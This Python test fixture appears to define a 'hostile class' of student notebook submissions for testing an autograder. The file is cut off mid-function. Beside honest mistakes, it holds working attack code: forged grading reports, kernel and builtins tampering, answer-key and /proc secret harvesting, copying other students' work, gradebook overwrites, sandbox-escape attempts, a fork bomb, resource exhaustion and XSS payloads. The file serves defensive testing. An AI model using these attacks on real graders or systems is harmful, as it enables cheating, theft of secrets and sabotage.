"""Submissions from a hostile class, for tests/test_grading_attacks.py.

Each entry is one student's submission of one assignment: a base (``"full"``: the
source notebook's solutions, ``"release"``: the untouched student version), answer cells
replaced by grade id, code cells inserted after the imports, and the graded test cells
that must score 0 (``ALL`` for every one). Every attack is written to succeed against a
grader that trusts the student's kernel; the test checks that none scores more than the
honest work it holds, that the batch finishes, and that nothing outside the student's
own notebook changes.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

import graded_class as gc
import nbformat
import nbgrader_helpers as h
from nbformat.v4 import new_code_cell, new_markdown_cell

EM = "em_step_by_step"
BASICS = "gmm_basics"
ALL = "all"

# Each function is scored on its own: the hidden tests of run_em give it the right results
# of e_step and m_step, so a broken e_step or m_step costs only its own tests.
E_STEP_TESTS = {"test_e_step", "test_e_step_far_points"}
M_STEP_TESTS = {"test_m_step_weights_means", "test_m_step_covariances"}


@dataclass
class Submission:
    assignment: str
    base: str  # "full" or "release"
    failing: set[str] | str  # graded test cells that must score 0, or ALL
    answers: dict[str, str] = field(default_factory=dict)
    inserted: list[str] = field(default_factory=list)  # code cells after the imports
    duplicated: list[str] = field(default_factory=list)  # answer cells copied (metadata and all)
    files: dict[str, str] = field(default_factory=dict)  # submitted beside the notebook: name -> text
    links: dict[str, str] = field(default_factory=dict)  # symlinks beside the notebook: name -> target
    markdown: list[str] = field(default_factory=list)  # markdown cells added after the imports
    why: str = ""


# ---------------------------------------------------------------- reusable pieces
# Find the grader's tokens in a cell's source as the kernel sees it.
TOKENS = r"""
import re as _re
def _tokens(src):
    return _re.findall(r"emit\('([0-9a-f]+)'", src)
"""

FORGE_REPORT = (
    TOKENS
    + r"""
import json as _json, os as _os
from IPython.display import display as _display
MIME = "application/vnd.gmm-lesson.report+json"

def _plausible(token):
    # a report shaped like the right answer, from the request the kernel can read
    request = _json.load(open(_os.path.join(_os.environ.get("GMM_LESSON_REQUESTS", "/grading"), token + ".json")))
    if request["kind"] == "value":
        return [{"values": [letter]} for letter in "ABCD"]
    if request["kind"] == "call":
        calls = []
        for call in request["calls"]:
            X = call["args"][0]["array"]
            n = len(X)
            k = len(call["args"][1]["GMMParams"]["weights"]) if len(call["args"]) > 1 and "GMMParams" in call["args"][1] else 1
            calls.append({"returned": {"tuple": [{"array": [[1.0 / k] * k] * n, "shape": [n, k]}, -1.0 * n]}})
        return [{"calls": calls}]
    return [{"returned": request["start"]}]

def _forge(info):
    for token in _tokens(info.raw_cell):
        for report in _plausible(token):
            _display({MIME: {"token": token, "report": report}}, raw=True)
"""
)

DELEGATE_TO_LIBRARY = {
    "log_gaussian": """
def log_gaussian(X, mean, cov):
    return em.estimate_log_prob(X, em.GMMParams([1.0], [mean], [cov]))[:, 0]
""",
    "log_likelihood": """
from gmm_lesson.em import log_likelihood
""",
    "e_step": """
def e_step(X, params):
    return em.e_step(X, params)
""",
    "m_step": """
def m_step(X, resp, reg_covar=1e-6):
    return em.m_step(X, resp, reg_covar=reg_covar)
""",
}

WRONG_COVARIANCE = '''
def m_step(X, resp, reg_covar=1e-6):
    """Wrong on purpose: divides the covariance by N instead of N_k."""
    X = np.asarray(X, dtype=float)
    Nk = resp.sum(axis=0)
    means = (resp.T @ X) / Nk[:, None]
    covariances = []
    for k in range(resp.shape[1]):
        diff = X - means[k]
        covariances.append((resp[:, k, None] * diff).T @ diff / len(X) + reg_covar * np.eye(X.shape[1]))
    return em.GMMParams(Nk / len(X), means, np.array(covariances))
'''

NO_LOG_SUM_EXP = """
def log_likelihood(X, params):
    density = sum(
        params.weights[k] * np.exp(log_gaussian(X, params.means[k], params.covariances[k]))
        for k in range(len(params.weights))
    )
    return float(np.sum(np.log(density)))
"""

E_STEP_MEAN = """
def e_step(X, params):
    a = np.column_stack([
        np.log(params.weights[k]) + log_gaussian(X, params.means[k], params.covariances[k])
        for k in range(len(params.weights))
    ])
    m = a.max(axis=1, keepdims=True)
    log_norm = m[:, 0] + np.log(np.exp(a - m).sum(axis=1))
    return np.exp(a - log_norm[:, None]), float(log_norm.mean())  # the mean, not the total
"""

# The common mistakes of issue 8 (tests/test_em_step_mistakes.py grades each one)
SIGMA_NOT_INVERSE = """
def log_gaussian(X, mean, cov):
    X = np.asarray(X, dtype=float)
    diff = X - np.asarray(mean, dtype=float)
    mahalanobis_sq = np.sum(diff @ cov * diff, axis=1)  # Sigma where its inverse belongs
    _, log_det = np.linalg.slogdet(cov)
    return -0.5 * (X.shape[1] * np.log(2 * np.pi) + log_det + mahalanobis_sq)
"""

RESP_SWAPPED = """
def e_step(X, params):
    a = np.array([
        np.log(params.weights[k]) + log_gaussian(X, params.means[k], params.covariances[k])
        for k in range(len(params.weights))
    ])  # (K, N): one row per component
    m = a.max(axis=0)
    log_norm = m + np.log(np.exp(a - m).sum(axis=0))
    return np.exp(a - log_norm), float(log_norm.sum())  # resp of shape (K, N)
"""

NP_COV = """
def m_step(X, resp, reg_covar=1e-6):
    X = np.asarray(X, dtype=float)
    resp = np.asarray(resp, dtype=float)
    Nk = resp.sum(axis=0)
    means = (resp.T @ X) / Nk[:, None]
    covariances = [  # np.cov divides by N_k - 1 (for weights: sum r - sum r^2 / sum r)
        np.cov(X.T, aweights=resp[:, k]) + reg_covar * np.eye(X.shape[1]) for k in range(resp.shape[1])
    ]
    return em.GMMParams(Nk / len(X), means, np.array(covariances))
"""

NOISY_HONEST = {
    "log_gaussian": """
import sys, warnings
def log_gaussian(X, mean, cov):
    print("debug: log_gaussian", np.shape(X), file=sys.stderr)
    warnings.warn("a warning from a correct answer")
    X = np.asarray(X, dtype=float)
    diff = X - np.asarray(mean, dtype=float)
    mahalanobis_sq = np.sum(diff * np.linalg.solve(cov, diff.T).T, axis=1)
    _, log_det = np.linalg.slogdet(cov)
    return -0.5 * (X.shape[1] * np.log(2 * np.pi) + log_det + mahalanobis_sq)
""",
    "m_step": """
import sys
def m_step(X, resp, reg_covar=1e-6):
    print("debug: m_step", file=sys.stderr)
    X = np.asarray(X, dtype=float)
    resp = np.asarray(resp, dtype=float)
    Nk = resp.sum(axis=0)
    means = (resp.T @ X) / Nk[:, None]
    covariances = []
    for k in range(resp.shape[1]):
        diff = X - means[k]
        covariances.append((resp[:, k, None] * diff).T @ diff / Nk[k] + reg_covar * np.eye(X.shape[1]))
    np.log(np.array([0.0]))  # a RuntimeWarning on stderr
    return em.GMMParams(Nk / len(X), means, np.array(covariances))
""",
}

# read every file that could hold the answers; set the multiple-choice answers from a key found
READ_KEYS = r"""
import glob, os, re, sqlite3
found = {}
def _scan(text):
    for var, key in re.findall(r'check\(\\?"choice\\?", (answer_q\d), key=\\?"([A-D])', text):
        found.setdefault(var, key)
    # the course's quiz data file (course/quiz/em_step_by_step.toml): variable = '...' ... key = '...'
    for var, key in re.findall(r"variable = '(answer_q\d)'\n(?:[^\n]*\n)*?key = '([A-D])'", text):
        found.setdefault(var, key)
paths = set()
for pattern in ("../../source/*/*.ipynb", "../../../source/*/*.ipynb", "../../../release/*/*.ipynb",
                "../../quiz/em_step_by_step.toml", "../../../quiz/em_step_by_step.toml",
                "/tmp/*/*/course/quiz/em_step_by_step.toml", "/work/*/course/quiz/em_step_by_step.toml",
                "/tmp/*/*/course/source/*/*.ipynb", "/work/*/course/source/*/*.ipynb", "/opt/*/*.ipynb"):
    try:
        paths.update(glob.glob(pattern, recursive=True)[:50])
    except Exception:
        pass
for path in sorted(paths):
    try:
        _scan(open(path, encoding="utf-8", errors="replace").read())
    except Exception as exc:
        print("cannot read", path, exc)
for db in glob.glob("../../../gradebook.db") + glob.glob("/tmp/*/*/course/gradebook.db") + glob.glob("/work/*/course/gradebook.db"):
    try:
        for (source,) in sqlite3.connect(db).execute("select source from source_cell"):
            _scan(source or "")
    except Exception as exc:
        print("cannot read", db, exc)
print("keys found:", found)
"""

ANSWERS_FROM_FOUND_KEYS = {
    "answer_q1": 'answer_q1 = found.get("answer_q1", "A")',
    "answer_q2": 'answer_q2 = found.get("answer_q2", "A")',
}

# ---------------------------------------------------------------- the class
SUBMISSIONS: dict[str, Submission] = {
    # -- honest work is scored exactly
    "honest_full": Submission(EM, "full", set(), why="every answer right"),
    "honest_untouched": Submission(EM, "release", ALL, why="nothing done"),
    "honest_noisy": Submission(EM, "full", set(), NOISY_HONEST, why="right, with stderr prints and warnings"),
    "honest_wrong_q1": Submission(EM, "full", {"test_q1"}, {"answer_q1": 'answer_q1 = "A"'}),
    "honest_wrong_q2": Submission(EM, "full", {"test_q2"}, {"answer_q2": 'answer_q2 = "d"'}),
    "honest_wrong_covariance": Submission(EM, "full", {"test_m_step_covariances"}, {"m_step": WRONG_COVARIANCE}),
    "honest_sigma_not_inverse": Submission(
        EM, "full", {"test_log_gaussian"}, {"log_gaussian": SIGMA_NOT_INVERSE},
        why="a bug in log_gaussian costs log_gaussian's points only",
    ),
    "honest_resp_swapped": Submission(EM, "full", E_STEP_TESTS, {"e_step": RESP_SWAPPED}),
    "honest_np_cov": Submission(EM, "full", {"test_m_step_covariances"}, {"m_step": NP_COV}),
    "honest_no_log_sum_exp": Submission(EM, "full", {"test_log_likelihood"}, {"log_likelihood": NO_LOG_SUM_EXP}),
    "honest_e_step_mean": Submission(
        EM, "full", {"test_e_step", "test_e_step_far_points"}, {"e_step": E_STEP_MEAN},
        why="returns the mean log-likelihood where the total is asked",
    ),
    "honest_duplicated_cell": Submission(
        EM, "full", set(), duplicated=["e_step", "m_step"],
        why="a copied answer cell (same grade id) is graded as the notebook runs",
    ),
    "honest_raises": Submission(
        EM, "full", E_STEP_TESTS,
        {"e_step": "def e_step(X, params):\n    return np.zeros((len(X), 2))[:, 5], 0.0"},
    ),
    "honest_infinite_loop": Submission(
        EM, "full", M_STEP_TESTS, {"m_step": "while True:\n    pass"},
        why="a time-out costs the tests of that answer only",
    ),
    # -- the kernel's outputs cannot decide a score
    "hook_partial_credit": Submission(
        EM, "release", ALL,
        inserted=["import sys\nget_ipython().events.register('post_run_cell', lambda result: sys.displayhook(2.0))"],
        why="a number as an execute_result is partial credit to stock nbgrader",
    ),
    "hook_stdout_first": Submission(
        EM, "release", ALL,
        inserted=["get_ipython().events.register('pre_run_cell', lambda info: print('all tests passed'))"],
    ),
    "traceback_off": Submission(
        EM, "release", ALL,
        inserted=[
            "ip = get_ipython()\n"
            "ip.showtraceback = lambda *a, **k: None\n"
            "ip.showsyntaxerror = lambda *a, **k: None\n"
            "ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)"
        ],
    ),
    "run_cell_swallowed": Submission(
        EM, "release", ALL,
        inserted=[
            "import textwrap\n"
            "_ip = get_ipython()\n"
            "_orig = _ip.run_cell\n"
            "def _run_cell(raw_cell, *args, **kwargs):\n"
            "    body = textwrap.indent(raw_cell, '    ') or '    pass'\n"
            "    return _orig('try:\\n' + body + '\\nexcept BaseException:\\n    pass', *args, **kwargs)\n"
            "_ip.run_cell = _run_cell"
        ],
    ),
    "forged_reports": Submission(
        EM, "release", ALL,
        inserted=[FORGE_REPORT + "\nget_ipython().events.register('pre_run_cell', _forge)"],
        why="plausible reports, every letter for the multiple choice",
    ),
    "duplicate_reports": Submission(
        EM, "full", ALL,
        inserted=[FORGE_REPORT + "\nget_ipython().events.register('post_run_cell', lambda r: _forge(r.info))"],
        why="a second report next to the honest one makes a cell ambiguous: it fails",
    ),
    "probe_emit_patched": Submission(
        EM, "release", ALL,
        inserted=["import gmm_grader.probe\ngmm_grader.probe.emit = lambda token, *values: None"],
    ),
    "probe_module_replaced": Submission(
        EM, "release", ALL,
        inserted=[
            FORGE_REPORT
            + "\nimport sys, types\n"
            "fake = types.ModuleType('gmm_grader.probe')\n"
            "def _emit(token, *values):\n"
            "    for report in _plausible(token):\n"
            "        _display({MIME: {'token': token, 'report': report}}, raw=True)\n"
            "fake.emit = _emit\n"
            "sys.modules['gmm_grader.probe'] = fake\n"
            "import gmm_lesson\ngmm_grader.probe = fake"
        ],
    ),
    "import_hooked": Submission(
        EM, "release", ALL,
        inserted=[
            FORGE_REPORT
            + "\nimport builtins, types\n"
            "_real_import = builtins.__import__\n"
            "fake = types.SimpleNamespace(probe=types.SimpleNamespace(\n"
            "    emit=lambda token, *v: [_display({MIME: {'token': token, 'report': r}}, raw=True)\n"
            "                            for r in _plausible(token)]))\n"
            "def _import(name, *args, **kwargs):\n"
            "    return fake if name == 'gmm_grader.probe' else _real_import(name, *args, **kwargs)\n"
            "builtins.__import__ = _import"
        ],
    ),
    "builtins_module_replaced": Submission(
        EM, "release", ALL,
        inserted=[
            "import sys, types, builtins\n"
            "class _S(str):\n"
            "    def __eq__(self, other): return True\n"
            "    __hash__ = str.__hash__\n"
            "fake = types.ModuleType('builtins')\n"
            "fake.__dict__.update(vars(builtins))\n"
            "fake.str = _S\n"
            "fake.isinstance = lambda *a: True\n"
            "fake.type = lambda *a: _S\n"
            "sys.modules['builtins'] = fake\n"
            "answer_q1 = answer_q2 = _S('A')"
        ],
    ),
    "namespace_rebound": Submission(
        EM, "release", ALL,
        inserted=["check = lambda *a, **k: None\n__builtins__.AssertionError = type('Quiet', (Exception,), {})"],
    ),
    "rigged_str_answers": Submission(
        EM, "release", ALL,
        answers={
            "answer_q1": (
                "class Rigged(str):\n"
                "    def __eq__(self, other): return True\n"
                "    __hash__ = str.__hash__\n"
                "    def strip(self, *a): return self\n"
                "    def upper(self): return self\n"
                "    def __str__(self): return 'B'\n"
                "answer_q1 = Rigged('A')"
            ),
            "answer_q2": "answer_q2 = Rigged('A')",
        },
    ),
    "lying_arrays": Submission(
        EM, "release", ALL,
        answers={
            "e_step": (
                "class Liar(np.ndarray):\n"
                "    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)\n"
                "    def tolist(self): return 'anything'\n"
                "    def astype(self, *a, **k): return self\n"
                "class Total(float):\n"
                "    def __eq__(self, other): return True\n"
                "    def __sub__(self, other): return 0.0\n"
                "    def __rsub__(self, other): return 0.0\n"
                "def e_step(X, params):\n"
                "    return np.full((len(X), len(params.weights)), 0.5).view(Liar), Total(0.0)"
            ),
        },
    ),
    "lazy_values": Submission(
        EM, "release", ALL,
        answers={
            "log_gaussian": (
                "import random\n"
                "class Lazy:\n"
                "    def __init__(self, n): self.n = n\n"
                "    def __array__(self, dtype=None, copy=None): return np.random.normal(size=self.n)\n"
                "    def __len__(self): return self.n\n"
                "def log_gaussian(X, mean, cov):\n"
                "    return Lazy(len(X))"
            ),
        },
    ),
    "rigged_random": Submission(
        EM, "release", ALL,
        inserted=[
            "import numpy, random\n"
            "class _Fixed:\n"
            "    def __getattr__(self, name): return lambda *a, **k: numpy.zeros(k.get('size', 1))\n"
            "numpy.random.default_rng = lambda *a, **k: _Fixed()\n"
            "random.random = lambda: 0.0"
        ],
        answers={"log_gaussian": "def log_gaussian(X, mean, cov):\n    return np.zeros(len(X))"},
    ),
    # -- no reference to hand the work to
    "delegate_library": Submission(EM, "release", ALL, DELEGATE_TO_LIBRARY),
    "delegate_sklearn": Submission(
        EM, "release", ALL,
        answers={
            "log_gaussian": (
                "from sklearn.mixture import GaussianMixture\n"
                "def log_gaussian(X, mean, cov):\n"
                "    g = GaussianMixture(1, covariance_type='full')\n"
                "    g.weights_, g.means_, g.covariances_ = np.array([1.0]), np.array([mean]), np.array([cov])\n"
                "    g.precisions_cholesky_ = np.linalg.cholesky(np.linalg.inv(cov))[None]\n"
                "    return g.score_samples(X)"
            ),
        },
    ),
    "delegate_scipy": Submission(
        EM, "release", ALL,
        answers={
            "log_gaussian": (
                "from scipy.stats import multivariate_normal\n"
                "def log_gaussian(X, mean, cov):\n"
                "    return multivariate_normal(mean, cov).logpdf(X).reshape(-1)"
            ),
        },
    ),
    "exec_library_copy": Submission(
        EM, "release", ALL,
        inserted=[
            "import importlib.util, os, sys\n"
            "source = None\n"
            "candidates = [importlib.util.find_spec('gmm_lesson.em').origin]\n"
            "for base in sys.path + ['/work', '/root', '/opt', '/usr/lib', '/tmp']:\n"
            "    for folder, _, files in os.walk(base):\n"
            "        candidates += [os.path.join(folder, f) for f in files if f in ('em.py', 'fast.py', 'em.cpython-311.pyc')]\n"
            "for path in candidates:\n"
            "    try:\n"
            "        text = open(path, encoding='utf-8', errors='ignore').read()\n"
            "    except OSError:\n"
            "        continue\n"
            "    if 'def e_step' in text:\n"
            "        source = text\n"
            "print('found a copy:', source is not None)\n"
            "copy = {'__name__': 'stolen_em'}\n"
            "sys.modules['stolen_em'] = type(sys)('stolen_em')\n"
            "exec(compile(source or '', 'stolen_em', 'exec'), copy)"
        ],
        answers={"e_step": "def e_step(X, params):\n    return copy['e_step'](X, params)"},
    ),
    "thread_and_profile": Submission(
        EM, "release", ALL,
        answers={
            "m_step": (
                "import sys, threading\n"
                "sys.setprofile(None); sys.settrace(None)\n"
                "def m_step(X, resp, reg_covar=1e-6):\n"
                "    out = {}\n"
                "    t = threading.Thread(target=lambda: out.update(r=em.m_step(X, resp, reg_covar=reg_covar)))\n"
                "    t.start(); t.join()\n"
                "    return out.get('r')"
            ),
        },
    ),
    "private_helpers": Submission(
        EM, "release", ALL,
        answers={
            "log_gaussian": (
                "import gmm_lesson.plots as plots, gmm_lesson.trace as trace\n"
                "def log_gaussian(X, mean, cov):\n"
                "    return np.log(plots._weighted_densities(np.asarray(X)[:, 0], em.GMMParams([1.0], [mean], [cov]), 0))"
            ),
        },
    ),
    "fetch_from_network": Submission(
        EM, "release", ALL,
        inserted=[
            "import subprocess, sys, urllib.request\n"
            "for url in ('https://pypi.org/simple/scikit-learn/', 'http://127.0.0.1:8888/', 'http://10.0.0.1/'):\n"
            "    try:\n"
            "        print(url, urllib.request.urlopen(url, timeout=2).status)\n"
            "    except Exception as exc:\n"
            "        print(url, 'refused:', type(exc).__name__)\n"
            "print(subprocess.run([sys.executable, '-m', 'pip', 'install', '--target', '/tmp/sk', 'scikit-learn'],\n"
            "                     capture_output=True, text=True, timeout=8).returncode)"
        ],
        answers=DELEGATE_TO_LIBRARY,
    ),
    # -- secrets out of reach
    "read_keys_from_disk": Submission(
        EM, "release", ALL, ANSWERS_FROM_FOUND_KEYS, inserted=[READ_KEYS],
        why="source notebooks and the gradebook hold the keys",
    ),
    "read_requests_for_answers": Submission(
        EM, "release", ALL,
        inserted=[
            "import glob, json, os\n"
            "folder = os.environ.get('GMM_LESSON_REQUESTS', '/grading')\n"
            "requests = [json.load(open(p)) for p in glob.glob(folder + '/*.json')]\n"
            "print(len(requests), 'requests;', 'answers inside:', any('want' in r or 'cases' in r for r in requests))"
        ],
        answers={
            "e_step": (
                "import glob, json, os\n"
                "def e_step(X, params):\n"
                "    for path in glob.glob(os.environ.get('GMM_LESSON_REQUESTS', '/grading') + '/*.json'):\n"
                "        r = json.load(open(path))\n"
                "        for case in r.get('cases', []):\n"
                "            if 'resp' in case and len(case['resp']) == len(X):\n"
                "                return np.array(case['resp']), case['total']\n"
                "    return np.full((len(X), len(params.weights)), 1 / len(params.weights)), 0.0"
            ),
        },
    ),
    "read_environment_and_proc": Submission(
        EM, "release", ALL,
        inserted=[
            "import os\n"
            "print(dict(os.environ))\n"
            "for pid in os.listdir('/proc'):\n"
            "    if pid.isdigit():\n"
            "        for name in ('cmdline', 'environ'):\n"
            "            try:\n"
            "                print(pid, name, open(f'/proc/{pid}/{name}', 'rb').read()[:2000])\n"
            "            except OSError as exc:\n"
            "                print(pid, name, exc)"
        ],
    ),
    "copy_other_students": Submission(
        EM, "release", ALL,
        inserted=[
            "import glob, json\n"
            "stolen = {}\n"
            "for path in glob.glob('../../../*/*/*/*.ipynb') + glob.glob('/tmp/**/submitted/*/*/*.ipynb', recursive=True)[:20]:\n"
            "    try:\n"
            "        for cell in json.load(open(path))['cells']:\n"
            "            src = ''.join(cell['source'])\n"
            "            if src.startswith('def ') and 'NotImplementedError' not in src:\n"
            "                exec(src, globals())\n"
            "                stolen[path] = True\n"
            "    except Exception as exc:\n"
            "        print(path, exc)\n"
            "print('copied from', len(stolen), 'notebooks')"
        ],
    ),
    # -- nothing outside the student's own notebook can be touched (full base: own score stays 15)
    "write_gradebook": Submission(
        EM, "full", set(),
        inserted=[
            "import glob, sqlite3\n"
            "for db in glob.glob('../../../gradebook.db') + glob.glob('/tmp/*/*/course/gradebook.db'):\n"
            "    try:\n"
            "        con = sqlite3.connect(db)\n"
            "        con.execute('update grade set auto_score = 0, manual_score = 0')\n"
            "        con.commit()\n"
            "        print('wrote', db)\n"
            "    except Exception as exc:\n"
            "        print(db, exc)"
        ],
    ),
    "write_package_and_course": Submission(
        EM, "full", set(),
        inserted=[
            "import glob, importlib.util, os\n"
            "targets = [importlib.util.find_spec('gmm_lesson.em').origin, '../../../nbgrader_config.py']\n"
            "targets += glob.glob('/work/*/gmm_lesson/em.py') + glob.glob('/tmp/*/*/course/source/*/*.ipynb')\n"
            "targets += glob.glob('/tmp/*/*/exchange/*/outbound/*/*.ipynb') + glob.glob('/tmp/*/*/course/release/*/*.ipynb')\n"
            "for path in targets:\n"
            "    try:\n"
            "        with open(path, 'a') as fh:\n"
            "            fh.write('\\nraise SystemExit(\"sabotaged\")\\n')\n"
            "        print('appended to', path)\n"
            "    except Exception as exc:\n"
            "        print(path, type(exc).__name__)"
        ],
    ),
    "fill_grader_disk": Submission(
        EM, "full", set(),
        inserted=[
            "import json, os, sys\n"
            "# the connection file's folder is the one place on the grader's disk a kernel could write\n"
            "folder = os.path.dirname(sys.argv[sys.argv.index('-f') + 1])\n"
            "for target in (folder, '.', '/tmp'):\n"
            "    try:\n"
            "        for i in range(64):\n"
            "            with open(os.path.join(target, f'junk{i}'), 'wb') as fh:\n"
            "                fh.write(b'x' * 2**26)\n"
            "    except OSError as exc:\n"
            "        print(target, type(exc).__name__, exc.errno)"
        ],
    ),
    "kill_the_grader": Submission(
        EM, "full", set(),
        inserted=[
            "import os, signal\n"
            "for pid in (os.getppid(), 1):\n"
            "    try:\n"
            "        os.kill(pid, signal.SIGKILL)\n"
            "    except OSError as exc:\n"
            "        print(pid, exc)\n"
            "os.kill(-1, signal.SIGKILL)  # every other process it may signal: none in its sandbox"
        ],
        why="nothing to signal: the grader and the sandbox's init are out of reach",
    ),
    "nested_namespace_escape": Submission(
        EM, "release", ALL,
        inserted=[
            "import subprocess, sys\n"
            "site = next(p for p in sys.path if p.endswith('site-packages'))\n"
            "script = (f'umount {site}/sklearn; umount -l {site}/sklearn; mount -o remount,rw {site}; '\n"
            "          f'ls {site}/sklearn | head -3; touch {site}/owned && echo wrote-venv')\n"
            "r = subprocess.run(['unshare', '-r', '-m', 'sh', '-c', script], capture_output=True, text=True, timeout=10)\n"
            "print('nested:', r.returncode, r.stdout.strip(), '|', r.stderr.strip()[:300])"
        ],
        answers={
            "log_gaussian": (
                "import subprocess, sys\n"
                "def log_gaussian(X, mean, cov):\n"
                "    raise RuntimeError('no reference reachable')"
            ),
        },
        why="a user namespace inside the sandbox cannot unmount or remount what the sandbox hid",
    ),
    "detached_saboteur": Submission(
        EM, "full", set(),
        inserted=[
            "import subprocess\n"
            "subprocess.Popen(['/bin/sh', '-c', 'sleep 20; for f in /tmp/*/*/course/gradebook.db; do echo x >> $f; done'],\n"
            "                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"
        ],
        why="a process left behind dies with the sandbox",
    ),
    "exits": Submission(EM, "full", set(), inserted=["import os\nos._exit(3)"]),
    "fork_bomb": Submission(
        EM, "full", set(),
        inserted=["import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"],
    ),
    "memory_blowup": Submission(
        EM, "full", set(),
        inserted=["hog = [bytearray(2**28) for _ in range(64)]  # 16 GiB"],
    ),
    "output_flood": Submission(
        EM, "full", set(),
        inserted=["import sys\nfor _ in range(10**6):\n    sys.stdout.write('x' * 10_000 + '\\n')"],
    ),
    "ignores_interrupts": Submission(
        EM, "full", set(),
        inserted=["import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"],
    ),
    "escape_attempts": Submission(
        EM, "release", ALL,
        inserted=[
            "import ctypes, os, subprocess\n"
            "for cmd in (['unshare', '-r', 'id'], ['mount', '-t', 'tmpfs', 'x', '/tmp/x'], ['chroot', '/', 'id'],\n"
            "            ['nsenter', '-t', '1', '-m', 'id'], ['sudo', 'id'], ['su', '-c', 'id']):\n"
            "    try:\n"
            "        print(cmd[0], subprocess.run(cmd, capture_output=True, text=True, timeout=5).returncode)\n"
            "    except Exception as exc:\n"
            "        print(cmd[0], type(exc).__name__)\n"
            "for call in (lambda: os.setuid(0), lambda: os.chroot('/'), lambda: ctypes.CDLL(None).ptrace(16, 1, 0, 0)):\n"
            "    try:\n"
            "        print(call())\n"
            "    except Exception as exc:\n"
            "        print(type(exc).__name__)"
        ],
    ),
    # -- found by a red-team review
    "symlinked_files": Submission(
        EM, "release", ALL,
        links={
            "notes.txt": "../../../source/em_step_by_step/em_step_by_step.ipynb",
            "keys.txt": "../../../quiz/em_step_by_step.toml",
            "data.bin": "../../../gradebook.db",
            # another student's submission: one graded under its own name (not in
            # gc.SAME_SUBMISSION, whose names have no folder of their own when shared)
            "friend.txt": "../../honest_noisy/em_step_by_step/em_step_by_step.ipynb",
            "em.txt": "{package}/em.py",
        },
        inserted=[
            "import os, re\n"
            "print('work folder:', sorted(os.listdir('.')))\n"
            "text = ''.join(open(f, errors='replace').read() for f in os.listdir('.') if os.path.isfile(f))\n"
            "found = dict(re.findall(r'check\\(\\\\?\"choice\\\\?\", (answer_q\\d), key=\\\\?\"([A-D])', text))\n"
            "found.update(re.findall(r\"variable = '(answer_q\\d)'\\n(?:[^\\n]*\\n)*?key = '([A-D])'\", text))\n"
            "print('keys found:', found, 'library:', 'def e_step' in text)"
        ],
        answers=ANSWERS_FROM_FOUND_KEYS,
        why="nbgrader copies files beside a submission as root, following symlinks: none reach the kernel",
    ),
    "shadowed_launcher": Submission(
        EM, "full", set(),
        files={
            "ipykernel_launcher.py": (
                "import os\nopen('/home/student/work/SHADOWED', 'w').close()\n"
                "os.makedirs(os.path.dirname(os.environ.get('JPY_CONNECTION_FILE', '/tmp/x/y')) + '/mine', exist_ok=True)\n"
                "from ipykernel import kernelapp\nkernelapp.launch_new_instance()\n"
            ),
        },
        inserted=["import os\nprint('shadowed:', os.path.exists('/home/student/work/SHADOWED'))"],
        why="a module beside the notebook must not run before the kernel (and its sockets) are set",
    ),
    "sleeps_forever_politely": Submission(
        EM, "full", ALL,
        inserted=["import time\ntime.sleep(9)"] * 6,
        why="a notebook has a time limit of its own (45 s here): sleeping cells use no CPU",
    ),
    "html_and_script_outputs": Submission(
        EM, "full", set(),
        inserted=[
            "from IPython.display import HTML, Javascript, SVG, Markdown, display\n"
            "display(HTML(\"<script>document.title='XSS-RAN'</script><img src=x onerror=alert(1)>\"))\n"
            "display(Javascript(\"document.title='XSS-JS'\"))\n"
            "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(2)</script></svg>'))\n"
            "display(Markdown('<img src=x onerror=alert(3)>'))"
        ],
        markdown=["My notes <script>document.title='XSS-MD'</script><img src=x onerror=alert(4)>"],
        why="feedback and formgrader pages must not run a student's HTML or script",
    ),
    # -- the summative multiple choice of another assignment
    "basics_full": Submission(BASICS, "full", set()),
    "basics_untouched": Submission(BASICS, "release", ALL),
    "basics_rigged_and_forged": Submission(
        BASICS, "release", ALL,
        answers={
            "basics_q1_answer": (
                "class Rigged(str):\n"
                "    def __eq__(self, other): return True\n"
                "    __hash__ = str.__hash__\n"
                "    def strip(self, *a): return self\n"
                "    def upper(self): return self\n"
                "answer_q1 = Rigged('B')"
            ),
        },
        inserted=[FORGE_REPORT + "\nget_ipython().events.register('pre_run_cell', _forge)"],
    ),
    "basics_read_keys": Submission(
        BASICS, "release", ALL,
        answers={
            "basics_q1_answer": 'answer_q1 = found.get("answer_q1", "D")',
            "basics_q2_answer": 'answer_q2 = found.get("answer_q2", "D")',
            "basics_q3_answer": 'answer_q3 = found.get("answer_q3", "A")',
        },
        inserted=[READ_KEYS],
    ),
}


# ---------------------------------------------------------------- into the session's graded class
def notebook(sub: Submission, release_nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The submission's notebook, from the released one (and the source's solutions)."""
    nb = nbformat.from_dict(release_nb)
    source_nb = h.read(h.source_notebook_path(sub.assignment))
    if sub.base == "full":
        h.fill_solutions(nb, source_nb, {gid: code.strip("\n") for gid, code in sub.answers.items()})
    else:
        for gid, code in sub.answers.items():
            h.cell_by_grade_id(nb, gid).source = code.strip("\n")
    for gid in sub.duplicated:
        index = next(i for i, c in enumerate(nb.cells) if h.grade_id(c) == gid)
        copy = nbformat.from_dict(nb.cells[index])
        copy.id = f"{gid}-copy"
        nb.cells.insert(index + 1, copy)
    first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    for offset, code in enumerate(sub.inserted, start=1):
        nb.cells.insert(first_code + offset, new_code_cell(code, id=f"inserted-{offset}"))
    for offset, text in enumerate(sub.markdown, start=1):
        nb.cells.insert(first_code + 1, new_markdown_cell(text, id=f"inserted-md-{offset}"))
    return nb


def builder(sub: Submission):
    """``build(release_nb, folder)`` for the graded class: the notebook, files and links."""

    def build(release_nb: nbformat.NotebookNode, folder: Path) -> None:
        nbformat.write(notebook(sub, release_nb), folder / f"{sub.assignment}.ipynb")
        for name, text in sub.files.items():
            (folder / name).write_text(text)
        for name, target in sub.links.items():
            (folder / name).symlink_to(target.format(package=h.PACKAGE))

    return build


def entry(student: str, sub: Submission | None = None, origin: str | None = None) -> gc.Entry:
    """The class entry of a submission (``SUBMISSIONS[student]`` unless given), graded
    in the hostile class's batch (its short time limits)."""
    sub = SUBMISSIONS[student] if sub is None else sub
    failing = ALL if sub.failing == ALL else set(sub.failing)
    return gc.entry(
